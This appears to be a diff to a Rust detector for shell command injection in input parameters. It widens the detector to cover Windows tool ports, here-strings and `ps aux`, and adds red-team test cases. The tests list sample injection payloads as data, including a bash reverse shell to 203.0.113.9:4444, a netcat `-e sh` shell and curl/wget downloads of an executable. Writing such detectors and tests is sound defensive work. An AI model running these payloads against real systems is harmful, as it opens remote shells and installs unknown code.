@@ -95,9 +95,10 @@ impl Check for ShellUnix {
             scan(text, &[])
         };
         let long = !candidates.is_empty() && (is_long_or_prose(text) || starts_script(text));
+        let command_param = !candidates.is_empty() && named_for_commands(input.name);
         let mut best: Option<Finding> = None;
         for c in candidates {
-            let (reason, level) = grade(&c, long, named_for_commands(input.name));
+            let (reason, level) = grade(&c, long, command_param);
             if level <= input.sensitivity && best.is_none_or(|b| level < b.level) {
                 best = Some(Finding { reason, score: 0.95, level });
             }
@@ -270,6 +271,8 @@ fn command_at(t: &[u8], marks: &[bool], mut i: usize, opener: Opener, in_paren: 
         Some(_) => return None,
         None => (word, false),
     };
+    // Windows ports of the same tools (`& curl.exe -o x.exe http://…`) run the same way.
+    let base = base.strip_suffix(b".exe").unwrap_or(base);
     let (class, distinct) = lookup(base)?;
 
     // Arguments up to the next separator.
@@ -315,6 +318,8 @@ fn command_at(t: &[u8], marks: &[bool], mut i: usize, opener: Opener, in_paren: 
     let shaped = match class {
         // `getent passwd`: the account databases are getent's only plain-word arguments.
         Class::Recon if base == b"getent" => matches!(arg(0), b"passwd" | b"shadow" | b"group" | b"hosts" | b"ahosts" | b"gshadow"),
+        // `ps aux`, `ps ef`: BSD-style options are bare letters.
+        Class::Recon if base == b"ps" && !args.is_empty() => args.iter().all(|&(s, e)| t[s..e].iter().all(|c| b"auxefwjl-".contains(c))),
         Class::Recon => plain == 0 && !(args.is_empty() && in_paren),
         // `crontab -l` lists and `-r` deletes the user's jobs: a flag alone is the command.
         Class::File if base == b"crontab" => matches!(arg(0), b"-l" | b"-r" | b"-e") || any(&[Shape::Path, Shape::File, Shape::Var]),
@@ -330,6 +335,8 @@ fn command_at(t: &[u8], marks: &[bool], mut i: usize, opener: Opener, in_paren: 
             args.is_empty() && opener == Opener::Pipe
                 || matches!(shapes.first(), Some(Shape::Flag | Shape::Path | Shape::File))
                 || redirect && plain == 0
+                // A here-string feeds the shell its command: `sh<<<id`.
+                || t[end..].starts_with(b"<<<")
         }
         Class::Delay => matches!(shapes.first(), Some(Shape::Number)) && args.len() <= 2,
         Class::Echo => {
@@ -502,6 +509,30 @@ mod tests {
         assert_eq!(at("exec", "ls -la"), Some(1));
         assert_eq!(at("q", "id"), None);
         assert_eq!(at("cmd", "save"), None);
+    }
+
+    /// Red-team pass 4: the other wrappers that run their argument (`coproc`, `builtin eval`,
+    /// `env`), a here-string into a shell, `ps aux`, the Windows ports of curl and wget, and
+    /// case changes of an empty variable glued to the command.
+    #[test]
+    fn more_wrappers_here_strings_and_exe_ports() {
+        for s in [
+            ";coproc bash -i >&/dev/tcp/203.0.113.9/4444 0>&1",
+            ";builtin eval 'nc 203.0.113.9 4444 -e sh'",
+            ";env id",
+            ";coproc id",
+            ";sh<<<id",
+            ";ps aux",
+            "& curl.exe -o x.exe http://203.0.113.9/x.exe",
+            "& wget.exe http://203.0.113.9/x.exe -O x.exe",
+            ";${x,,}id",
+            ";${@~}id",
+        ] {
+            assert_eq!(level(s), Some(1), "{s}");
+        }
+        for s in ["env vars", "a; env staging please", "ps and qs", "the coproc keyword", "a; ps: thanks", "curl.exe"] {
+            assert_ne!(level(s), Some(1), "{s}");
+        }
     }
 
     /// An absolute path is a binary only from a binaries folder: REST paths end in `env` or `id`.
